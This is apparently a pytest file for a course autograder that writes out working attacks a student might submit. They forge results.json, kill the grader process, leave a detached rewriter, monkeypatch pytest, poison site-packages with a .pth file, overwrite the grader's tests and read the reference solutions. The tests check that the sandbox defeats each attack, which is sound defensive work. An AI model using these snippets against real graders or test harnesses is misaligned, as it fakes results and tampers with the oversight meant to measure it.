"""Issue 9's attacks, each as a concrete submission built on the untouched stubs.

Every attack class that reached 100/100 against the old in-process grader is
written here as a few lines at the top of a stage file, the way a determined
student would; the rest of the file is the stub.  Graded through ``kata
grade`` (the CLI, as an instructor runs it) and through the Gradescope
``run_autograder``, each must score exactly what its honest code earns (0:
stubs), the report must be the grader's own, and a poisoning attempt must not
change the next submission's score.

The attacks know where things are (the grader's repository, the venv's
site-packages, the results file): a student can guess all of them.  These
tests need the uid boundary (root, a mount namespace); elsewhere they skip
with the reason.  CI runs as root.
"""
from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import sysconfig
import tempfile
import time
from pathlib import Path

import pytest

from autograd_kata.classroom import jail
from autograd_kata.classroom.gradescope import build_autograder, unpack
from autograd_kata.classroom.release import source_files
from autograd_kata.core.manifest import STAGES
from kit import stub

pytestmark = [pytest.mark.timeout(600),
              pytest.mark.skipif(not jail.isolation()[0],
                                 reason="needs the uid boundary: run as root where a mount namespace is allowed "
                                        "(CI does)")]

ROOT = Path(__file__).resolve().parent.parent
SITE = sysconfig.get_paths()["purelib"]
POISON = Path(SITE) / "zz_kata_attack.pth"
TMP = tempfile.gettempdir()


def on_stub(n: int, attack: str) -> str:
    """The attack at the top of stage n's stub, then the stub, untouched."""
    return attack + "\n" + stub(n)


# --- the attacks: each is the student's code, with the places it aims at -----------------

FORGE_AT_IMPORT = r'''
import atexit, glob, json, os
FULL = {"score": 100.0, "output": "forged", "tests": []}
FAKE_RESULTS = {"version": 1, "exitstatus": 0, "collected": 1, "tests": [
    {"nodeid": "x", "name": "x", "stage": 1, "outcome": "passed", "message": "", "location": ["x", 1],
     "duration": 0.0}]}
def _forge():
    places = [os.getcwd()]
    here = os.getcwd()
    while os.path.dirname(here) != here:
        here = os.path.dirname(here)
        places.append(here)
    places += glob.glob(%(tmp)r + "/kata-grade-*") + glob.glob(%(tmp)r + "/kata-grade-*/*")
    for place in places:
        for name, data in (("results.json", FAKE_RESULTS), ("collected.json", {"ids": ["x"]})):
            try:
                with open(os.path.join(place, name), "w") as f:
                    json.dump(data, f)
            except OSError:
                pass
    for out in %(outs)r:
        try:
            with open(out, "w") as f:
                json.dump(FULL, f)
        except OSError:
            pass
_forge()
atexit.register(_forge)
class _Exit:
    def __del__(self):
        _forge()
        os._exit(0)
_keep = _Exit()
'''

KILL_THE_GRADER = r'''
import os, signal
for _pid in (os.getppid(), os.getpgid(os.getppid()) if hasattr(os, "getpgid") else 0, 1):
    for _how in (os.kill, getattr(os, "killpg", None)):
        try:
            if _how and _pid:
                _how(_pid, signal.SIGKILL)
        except (OSError, ProcessLookupError):
            pass
'''

DETACHED_REWRITER = r'''
import json, os, time
def _rewrite_later():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    end = time.time() + 40
    while time.time() < end:
        for out in %(outs)r:
            try:
                with open(out) as f:
                    if json.load(f).get("output") == "forged":
                        continue
            except (OSError, ValueError):
                pass
            try:
                with open(out, "w") as f:
                    json.dump({"score": 100.0, "output": "forged", "tests": []}, f)
            except OSError:
                pass
        time.sleep(0.05)
    os._exit(0)
try:
    _rewrite_later()
except OSError:
    pass
'''

BEND_PYTEST = r'''
import gc, sys
try:
    import pytest, _pytest.reports
    _pytest.reports.TestReport.passed = property(lambda self: True)
    _pytest.reports.TestReport.outcome = property(lambda self: "passed", lambda self, v: None)
except Exception:
    pass
try:
    import expect
    for _name in list(vars(expect.Expect)):
        if not _name.startswith("__"):
            setattr(expect.Expect, _name, lambda *a, **k: None)
except Exception:
    pass
try:
    import pytest_check
    pytest_check.check = type("C", (), {"__getattr__": lambda s, n: (lambda *a, **k: True)})()
except Exception:
    pass
for _obj in gc.get_objects():
    if type(_obj).__name__ in ("PytestPluginManager", "Session", "Function"):
        try:
            if type(_obj).__name__ == "Function":
                _obj.obj = lambda *a, **k: None
            elif type(_obj).__name__ == "PytestPluginManager":
                class _Pass:
                    def pytest_runtest_makereport(self, item, call):
                        pass
                _obj.register(_Pass(), "kata-pass")
        except Exception:
            pass
'''

POISON_NEXT = r'''
import glob, os
for _target, _text in ((%(pth)r, "import os; os.environ['KATA_POISONED'] = '1'\n"),):
    try:
        with open(_target, "w") as f:
            f.write(_text)
    except OSError:
        pass
_pass = "def test_poisoned():\n    pass\n"
for _place in glob.glob(%(tmp)r + "/kata-grade-*/*/tests/test_stage0*.py") + glob.glob(%(grader)r + "/tests/test_stage0*.py"):
    try:
        with open(_place, "w") as f:
            f.write(_pass)
    except OSError:
        pass
for _place in glob.glob(%(grader)r + "/conftest.py"):
    try:
        with open(_place, "a") as f:
            f.write("\nraise SystemExit(0)\n")
    except OSError:
        pass
'''

READ_THE_REFERENCE = r'''
import glob, os
_found = None
_name = __name__.rsplit(".", 1)[-1] + ".py"
_places = [os.path.join(%(root)r, "solutions", _name)]
_here = os.getcwd()
while os.path.dirname(_here) != _here:
    _here = os.path.dirname(_here)
    _places.append(os.path.join(_here, "solutions", _name))
_places += glob.glob("/*/*/solutions/" + _name) + glob.glob("/*/*/*/solutions/" + _name)
for _meta in glob.glob(%(site)r + "/*.dist-info/direct_url.json") + glob.glob(%(site)r + "/__editable__*"):
    try:
        _text = open(_meta).read()
        if "file://" in _text:
            _places.append(_text.split("file://", 1)[1].split('"')[0].split("'")[0] + "/solutions/" + _name)
    except OSError:
        pass
for _place in _places:
    try:
        _found = open(_place).read()
        break
    except OSError:
        pass
'''
# the stub follows; then, if the reference was found, it replaces the stub
READ_THE_REFERENCE_TAIL = "\nif _found:\n    exec(compile(_found, 'reference', 'exec'), globals())\n"

READ_THE_TESTS = r'''
import glob, os, sys, linecache
_tests = glob.glob(%(root)r + "/tests/test_stage*.py") + glob.glob("tests/test_stage*.py")
_seen = [linecache.getlines(p) for p in _tests]
def _caller_answers():
    """What the calling test expects, read from its frame and its source."""
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_globals.values()):
            if type(value).__name__ == "Expect":  # the test's checker: make every check agree
                for name in list(vars(type(value))):
                    if not name.startswith("__"):
                        setattr(type(value), name, lambda *a, **k: None)
        frame = frame.f_back
'''
READ_THE_TESTS_TAIL = ("\ndef __init__(self, data=0, _children=(), _op=''):\n"
                       "    _caller_answers()\n"
                       "    self.data, self.grad, self._prev, self._op = data, 0, set(_children), _op\n"
                       "    self._backward = lambda: None\n"
                       "Value.__init__ = __init__\n"
                       "Value.__repr__ = lambda self: (_caller_answers(), '')[1]\n")

ATTACKS = {  # stage -> (the attack class, the code before the stub, the code after it); stage 7: plain stub
    1: ("answering the public tests by reading them (linecache, the caller's frame)", READ_THE_TESTS,
        READ_THE_TESTS_TAIL),
    2: ("killing the grader (the parent, its group, init)", KILL_THE_GRADER, ""),
    3: ("a detached process that rewrites results.json after the grader", DETACHED_REWRITER, ""),
    4: ("bending pytest from inside (plugin manager, report classes, items, expect, pytest-check)",
        BEND_PYTEST, ""),
    5: ("poisoning what comes next (.pth in site-packages, the scratch, the grader's tests)", POISON_NEXT, ""),
    6: ("reading the reference from the disk and the editable install's metadata", READ_THE_REFERENCE,
        READ_THE_REFERENCE_TAIL),
    8: ("forging the report at import, from atexit and a finalizer, then os._exit(0)", FORGE_AT_IMPORT, ""),
}


def attack_submission(folder: Path, grader: Path, outs: list[str]) -> Path:
    values = {"tmp": TMP, "outs": outs, "pth": str(POISON), "grader": str(grader), "root": str(ROOT),
              "site": SITE}
    for s in STAGES:
        path = folder / s.source("exercises")
        path.parent.mkdir(parents=True, exist_ok=True)
        if s.number in ATTACKS:
            _, head, tail = ATTACKS[s.number]
            path.write_text(on_stub(s.number, head % values) + tail, encoding="utf-8")
        else:
            path.write_text(stub(s.number), encoding="utf-8")
    return folder


def grader_copy(dest: Path) -> Path:
    """The grader's tests/, conftest.py, pyproject.toml (what --tests-from reads)."""
    for name in source_files(ROOT):
        if name.startswith(("tests/", "conftest.py", "pyproject.toml")) and (ROOT / name).is_file():
            (dest / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(ROOT / name, dest / name)
    return dest


def digest(folder: Path) -> str:
    h = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if path.is_file() and "__pycache__" not in path.parts:
            h.update(str(path.relative_to(folder)).encode() + b"\0" + path.read_bytes())
    return h.hexdigest()


def stub_submission(folder: Path) -> Path:
    for s in STAGES:
        path = folder / s.source("exercises")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(stub(s.number), encoding="utf-8")
    return folder


def kata(*args, timeout=300) -> subprocess.CompletedProcess:
    env = {**os.environ, "KATA_IMPL": ""}
    return subprocess.run([sys.executable, "-m", "autograd_kata", *args], capture_output=True, text=True,
                          timeout=timeout, check=False, env=env, cwd=ROOT)


@pytest.fixture(autouse=True)
def no_poison_left():
    yield
    if POISON.exists():  # the attack won: say so, and leave the venv clean for the next test
        POISON.unlink()
        pytest.fail(f"the attack wrote {POISON}")


def assert_grader_wrote(data: dict, stages=STAGES):
    """A report the grader wrote: every stage, each scored 0 with the grader's reason."""
    assert data.get("output") != "forged", "results.json was forged"
    assert len(data["tests"]) == len(stages), data
    assert data["score"] == 0.0, [t["name"] + ": " + t["output"][:300] for t in data["tests"] if t["score"]]
    for test in data["tests"]:
        assert test["score"] == 0.0 and test["status"] == "failed", test


def test_every_attack_gains_nothing_through_kata_grade(tmp_path):
    grader = grader_copy(tmp_path / "grader")
    before = digest(grader)
    out = tmp_path / "results" / "results.json"
    folder = attack_submission(tmp_path / "attacker", grader, [str(out)])
    proc = kata("grade", "--submission", str(folder), "--tests-from", str(grader), "--format", "gradescope",
                "--out", str(out))
    assert proc.returncode == 1, proc.stdout + proc.stderr
    written = out.read_text()
    assert_grader_wrote(json.loads(written))
    time.sleep(2)  # the detached rewriter had its chance
    assert out.read_text() == written, "results.json changed after the grader wrote it"
    assert digest(grader) == before, "the grader's tests changed"
    assert not jail.processes_of(jail.ensure_user()[0]), "a sandbox process outlived the grading"
    # the next submission, graded with the same venv and grader: the stubs still score 0
    nxt = tmp_path / "next.json"
    proc = kata("grade", "--submission", str(stub_submission(tmp_path / "next")), "--tests-from", str(grader),
                "--stage", "1", "--stage", "5", "--format", "json", "--out", str(nxt))
    data = json.loads(nxt.read_text())
    assert proc.returncode == 1 and data["score"] == 0, data["stages"]
    assert all(g["total"] > 1 for g in data["stages"]), "the grader's tests were replaced"


@pytest.fixture(scope="module")
def autograder(tmp_path_factory):
    zip_path = tmp_path_factory.mktemp("zip") / "autograder.zip"
    assert build_autograder(ROOT, zip_path, out=lambda *a, **k: None) == 0
    return zip_path


def run_autograder(base: Path, timeout=300) -> subprocess.CompletedProcess:
    return subprocess.run(["bash", str(base / "run_autograder")], cwd=base, capture_output=True, text=True,
                          timeout=timeout, check=False,
                          env={**os.environ, "KATA_AUTOGRADER_ROOT": str(base), "KATA_PYTHON": sys.executable,
                               "KATA_IMPL": ""})


def test_every_attack_gains_nothing_through_run_autograder(tmp_path, autograder):
    base = tmp_path / "autograder"
    unpack(autograder, base)
    results = base / "results" / "results.json"
    results.write_text(json.dumps({"score": 100.0, "output": "forged", "tests": []}))  # left by someone
    before = digest(base / "source")
    attack_submission(base / "submission", base / "source", [str(results)])
    proc = run_autograder(base)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    written = results.read_text()
    assert_grader_wrote(json.loads(written))
    time.sleep(2)
    assert results.read_text() == written, "results.json changed after the grader wrote it"
    assert digest(base / "source") == before, "the autograder's source changed"
    # the next student, same image: stubs score 0
    shutil.rmtree(base / "submission")
    stub_submission(base / "submission")
    proc = run_autograder(base)
    assert_grader_wrote(json.loads(results.read_text()))


def test_a_grader_killed_midway_leaves_an_explicit_failure(tmp_path, autograder):
    base = tmp_path / "autograder"
    unpack(autograder, base)
    results = base / "results" / "results.json"
    results.write_text(json.dumps({"score": 100.0, "output": "forged", "tests": []}))
    stub_submission(base / "submission")
    env = {**os.environ, "KATA_AUTOGRADER_ROOT": str(base), "KATA_PYTHON": sys.executable, "KATA_IMPL": ""}
    proc = subprocess.Popen(["bash", str(base / "run_autograder")], cwd=base, env=env, start_new_session=True,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and not list((base / "results").glob(".kata-grade.*")):
        time.sleep(0.05)
    os.killpg(proc.pid, 9)
    proc.wait()
    jail.kill_user(jail.ensure_user()[0])  # what the killed grader could not end
    data = json.loads(results.read_text())
    assert data["score"] == 0.0 and "did not finish" in data["output"], data


# --- the jail itself ------------------------------------------------------------------------

PROBE = r'''
import json, os, resource, socket
seen = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups(), "cwd": os.getcwd(),
        "here": sorted(os.listdir(".")), "env": sorted(os.environ)}
for path in (%(root)r, %(root)r + "/solutions", %(site)r, "/proc/1/environ", "/etc/passwd", "/work", "/root"):
    seen[path] = os.path.exists(path)
try:
    open("exercises/mine.py", "a").close()
    seen["write_own_folder"] = True
except OSError:
    seen["write_own_folder"] = False
try:
    socket.create_connection(("1.1.1.1", 53), timeout=1)
    seen["network"] = True
except OSError:
    seen["network"] = False
seen["as"] = resource.getrlimit(resource.RLIMIT_AS)[0]
seen["nproc"] = resource.getrlimit(resource.RLIMIT_NPROC)[0]
print(json.dumps(seen))
'''


def test_the_jail_shows_only_the_stage_folder_and_drops_to_the_sandbox_user(tmp_path):
    folder = tmp_path / "stage"
    (folder / "exercises").mkdir(parents=True)
    (folder / "exercises" / "__init__.py").write_text("")
    os.chmod(tmp_path, 0o711)
    for path in (folder, folder / "exercises"):
        os.chmod(path, 0o755)
    os.environ["KATA_HIDDEN_SEED_PROBE"] = "secret"
    try:
        launch = jail.launcher(folder, user=jail.SANDBOX_USER)
        proc = launch([sys.executable, "-I", "-S", "-c", PROBE % {"root": str(ROOT), "site": SITE}],
                      stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        out, err = proc.communicate(timeout=30)
    finally:
        del os.environ["KATA_HIDDEN_SEED_PROBE"]
    assert proc.returncode == 0, err
    seen = json.loads(out)
    uid, gid = jail.ensure_user()
    assert (seen["uid"], seen["gid"], seen["groups"]) == (uid, gid, [])
    assert seen["cwd"] == str(folder) and seen["here"] == ["exercises"]
    assert not any(seen[p] for p in (str(ROOT), str(ROOT) + "/solutions", SITE, "/proc/1/environ", "/work"))
    assert seen["write_own_folder"] is False and seen["network"] is False
    assert "KATA_HIDDEN_SEED_PROBE" not in seen["env"]
    assert seen["as"] == jail.GiB and seen["nproc"] == 64


def test_the_end_kills_a_detached_process_of_the_sandbox_user(tmp_path):
    folder = tmp_path / "stage"
    folder.mkdir()
    os.chmod(tmp_path, 0o711)
    os.chmod(folder, 0o755)
    detach = ("import os, time\n"
              "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(120)\n"
              "    os._exit(0)\n")
    with jail.UserLock():
        proc = jail.launcher(folder, user=jail.SANDBOX_USER)([sys.executable, "-I", "-S", "-c", detach])
        proc.wait(timeout=30)
        uid = jail.ensure_user()[0]
        deadline = time.monotonic() + 5
        while not jail.processes_of(uid) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert jail.processes_of(uid), "the detached sleeper should be running"
        assert jail.kill_user(uid) and not jail.processes_of(uid)
